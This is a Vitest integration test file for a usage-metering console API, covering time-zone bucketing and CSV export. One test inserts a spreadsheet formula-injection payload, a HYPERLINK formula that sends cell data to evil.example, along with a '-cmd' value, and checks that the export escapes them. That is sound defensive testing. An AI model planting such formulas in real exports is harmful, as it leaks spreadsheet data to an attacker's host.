import { beforeAll, describe, expect, it } from "vitest";

import { addDays } from "@slotwise/core";
import { compactUsageFully } from "@slotwise/db/testing";

import { startApi, type Api } from "./harness.ts";
import { trpcClient } from "./trpc-client.ts";

let api: Api;
let client: ReturnType<typeof trpcClient>;
let record: (Meter: string, Usage: number, iso: string) => Promise<Response>;
const at = (iso: string) => Math.floor(Date.parse(iso) / 1000);
// Days relative to the test's clock: inside the usage retention, before the seed's 90 days of
// usage, and away from the autumn change (whose entries are another test's).
const today = new Date().toISOString().slice(0, 10);
/** The latest autumn change in Lisbon (the last Sunday of October, 01:00 UTC) before now. */
const AUTUMN = (() => {
  for (let year = new Date().getUTCFullYear(); ; year--) {
    const lastOfOctober = new Date(Date.UTC(year, 9, 31));
    const sunday = addDays(lastOfOctober.toISOString().slice(0, 10), -lastOfOctober.getUTCDay());
    if (Date.parse(`${sunday}T02:00:00Z`) < Date.now()) return sunday;
  }
})();
const daysApart = (a: string, b: string) => Math.abs(Date.parse(a) - Date.parse(b)) / 86_400_000;
// 100 days apart: the autumn change is never within 40 days of both.
const FIRST = addDays(today, daysApart(addDays(today, -150), AUTUMN) > 40 ? -150 : -250);
const SECOND = addDays(FIRST, 1);
const LATER = addDays(FIRST, 30);

beforeAll(async () => {
  api = await startApi();
  const key = await api.key({ scopes: ["usage:write"] });
  record = (Meter, Usage, iso) =>
    api.request("/api/v2/usage/meters", { method: "POST", key, json: { Meter, Usage, OccurredAt: at(iso) } });
  // Kolkata is UTC+5:30: 18:29Z is 23:59 on the 1st there, 18:30Z already the 2nd.
  await record("series-a", 1.5, `${FIRST}T18:29:00Z`);
  await record("series-a", 2, `${FIRST}T18:30:00Z`);
  await record("series-b", 4, `${SECOND}T03:10:00Z`);
  await compactUsageFully(api.db);
  await record("series-a", 0.25, `${SECOND}T03:40:00Z`);
  client = trpcClient(api.base);
  await client.console.session.signIn.mutate({ email: "demo@example.com", password: "correct-horse-battery" });
});

describe("console usage", () => {
  it("gives a per-day series in the chosen zone for long ranges", async () => {
    const series = await client.console.usage.series.query({
      from: addDays(FIRST, -7),
      to: addDays(FIRST, 4),
      tz: "Asia/Kolkata",
    });
    expect(series.unit).toBe("day");
    expect(series.points.filter((p) => p.Meter.startsWith("series-"))).toEqual([
      { Meter: "series-a", Bucket: FIRST, Usage: 1.5, Events: 1 },
      { Meter: "series-a", Bucket: SECOND, Usage: 2.25, Events: 2 },
      { Meter: "series-b", Bucket: SECOND, Usage: 4, Events: 1 },
    ]);
  });

  it("shows the hour the autumn change repeats as one bar", async () => {
    // Lisbon falls back from 02:00 WEST to 01:00 WET on the last Sunday of October: 00:30Z and 01:30Z are both 01:30 there.
    await record("series-autumn", 0.1, `${AUTUMN}T00:30:00Z`);
    await record("series-autumn", 0.2, `${AUTUMN}T01:30:00Z`);
    const series = await client.console.usage.series.query({
      from: AUTUMN,
      to: AUTUMN,
      tz: "Europe/Lisbon",
    });
    expect(series.points.filter((p) => p.Meter === "series-autumn")).toEqual([
      { Meter: "series-autumn", Bucket: `${AUTUMN}T01:00`, Usage: 0.3, Events: 2 },
    ]);
  });

  it("gives a per-hour series for ranges of up to 3 days, with half-hour offsets kept exact", async () => {
    const series = await client.console.usage.series.query({
      from: SECOND,
      to: SECOND,
      tz: "Asia/Kolkata",
    });
    expect(series.unit).toBe("hour");
    expect(series.points.filter((p) => p.Meter.startsWith("series-"))).toEqual([
      { Meter: "series-a", Bucket: `${SECOND}T00:00`, Usage: 2, Events: 1 },
      { Meter: "series-b", Bucket: `${SECOND}T08:00`, Usage: 4, Events: 1 },
      { Meter: "series-a", Bucket: `${SECOND}T09:00`, Usage: 0.25, Events: 1 },
    ]);
  });

  it("exports the summary and the series as CSV", async () => {
    const summary = await client.console.usage.csv.query({
      from: SECOND,
      to: SECOND,
      tz: "Asia/Kolkata",
      kind: "summary",
    });
    expect(summary.filename).toBe(`usage-summary-${SECOND}-to-${SECOND}.csv`);
    const lines = summary.csv.trim().split("\n");
    expect(lines[0]).toBe(`"meter","total_usage","event_count","built_in","unit"`);
    expect(lines).toContain(`"series-b","4","1","no",`);
    expect(lines).toContain(`"series-a","2.25","2","no",`);
    expect(lines.at(-1)).toBe(`"TOTAL",,"3",,`);
    const series = await client.console.usage.csv.query({
      from: SECOND,
      to: SECOND,
      tz: "Asia/Kolkata",
      kind: "series",
    });
    expect(series.csv.trim().split("\n")).toEqual(
      expect.arrayContaining([`"hour","meter","usage","events"`, `"${SECOND}T08:00","series-b","4","1"`]),
    );
  });

  it("writes meter names a spreadsheet would run as formulas as text in both CSVs", async () => {
    // The meter alphabet refuses "=", but a row written by hand, or by a release without the rule, may hold one.
    const { operatorId } = await api.db.usageEntry.findFirstOrThrow({ where: { meter: "series-a" } });
    await api.db.usageEntry.create({
      data: {
        operatorId,
        meter: '=HYPERLINK("https://evil.example/?"&A1,"open")',
        usage: 1,
        occurredAt: new Date(`${LATER}T10:00:00Z`),
      },
    });
    expect((await record("-cmd", 2, `${LATER}T11:00:00Z`)).status).toBe(201);
    const input = { from: LATER, to: LATER, tz: "UTC" };
    const summary = (await client.console.usage.csv.query({ ...input, kind: "summary" })).csv.trim().split("\n");
    expect(summary).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")","1","1","no",`);
    expect(summary).toContain(`"'-cmd","2","1","no",`);
    const series = (await client.console.usage.csv.query({ ...input, kind: "series" })).csv.trim().split("\n");
    expect(series).toContain(`"${LATER}T10:00","'=HYPERLINK(""https://evil.example/?""&A1,""open"")","1","1"`);
    expect(series).toContain(`"${LATER}T11:00","'-cmd","2","1"`);
  });

  it("marks the built-in meters in the console's summary", async () => {
    const summary = await client.console.usage.summary.query({ from: FIRST, to: SECOND });
    expect(summary.BuiltInMeters).toEqual([
      "order-completed",
      "waitlist-notified",
      "workflow-email-sent",
      "guest-checked-in",
    ]);
    expect(summary.Period.TimeZone).toBe("Europe/Lisbon");
  });
});
